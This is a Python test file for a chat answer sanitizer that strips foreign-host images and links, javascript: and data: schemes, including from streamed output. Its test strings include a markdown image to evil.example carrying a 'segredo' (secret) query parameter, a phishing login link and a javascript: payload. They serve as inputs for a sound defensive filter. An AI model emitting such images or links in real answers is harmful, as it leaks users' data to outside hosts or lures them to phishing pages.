from chatgepeto.answering.safety import StreamSanitizer, sanitize


def test_images_and_foreign_links_are_removed():
    text = (
        "Veja ![x](https://evil.example/p?q=segredo) e [o guia](https://phish.example/login) "
        "ou <https://evil.example/a> [1]."
    )
    assert sanitize(text) == "Veja  e o guia ou  [1]."


def test_allowed_hosts_are_kept():
    text = "[docs](https://docs.python.org/3/) ![f](https://cdn.usp.br/f.png) [m](http://x.com)"
    out = sanitize(text, ["python.org", "usp.br"])
    assert "[docs](https://docs.python.org/3/)" in out
    assert "![f](https://cdn.usp.br/f.png)" in out
    assert "[m](http://x.com)" not in out and "m" in out


def test_dangerous_schemes_are_never_allowed():
    for text in ("[clique](javascript:alert(1))", "![a](data:image/png;base64,xx)"):
        assert "javascript" not in sanitize(text, ["javascript", "data"])
        assert "data:" not in sanitize(text, ["javascript", "data"])


def test_citations_and_brackets_pass_through():
    text = "A seleção natural [1][2] atua em listas como a[0] e [x, y]."
    assert sanitize(text) == text


def test_streaming_holds_back_only_what_may_become_a_link():
    stream = StreamSanitizer()
    pieces = ["A resposta", " [1]", " e ![im", "g](https://evil.ex", "ample/x.png)", " fim", "."]
    sent = [stream.feed(p) for p in pieces] + [stream.flush()]
    assert "".join(sent) == "A resposta [1] e  fim."
    assert sent[0] == "A resposta"  # nothing held without a bracket
    assert "evil" not in "".join(sent)


def test_streaming_flushes_an_unclosed_bracket_at_the_end():
    stream = StreamSanitizer()
    assert stream.feed("lista [a, b") == "lista "
    assert stream.flush() == "[a, b"
